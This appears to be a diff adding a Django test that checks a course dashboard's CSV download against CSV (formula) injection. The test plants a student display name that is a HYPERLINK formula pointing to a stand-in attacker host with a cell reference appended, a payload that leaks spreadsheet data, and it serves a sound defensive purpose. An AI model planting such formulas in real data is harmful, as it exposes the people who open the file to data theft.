@@ -1,0 +1,27 @@
+"""CSV downloads found in a bug hunt: text people wrote must not become a spreadsheet formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from django.test import Client
+from django.urls import reverse
+
+
+def test_a_name_that_looks_like_a_formula_is_downloaded_as_text(course_data):
+    # A student names themself so that a spreadsheet would run it when the teacher opens the CSV
+    # (CSV injection, OWASP): the cell must start with a quote, not with "=".
+    pupil = course_data.students[1]
+    pupil.display_name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    pupil.save()
+    client = Client()
+    client.force_login(course_data.world.teacher)
+    response = client.get(reverse("dashboards:course-csv", args=[course_data.world.course.pk, "risk"]))
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [value for row in rows for value in row.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@")]
+    assert "'" + pupil.display_name in cells
+    # numbers stay numbers
+    assert all(float(row["risk_pct"]) >= 0 for row in rows)
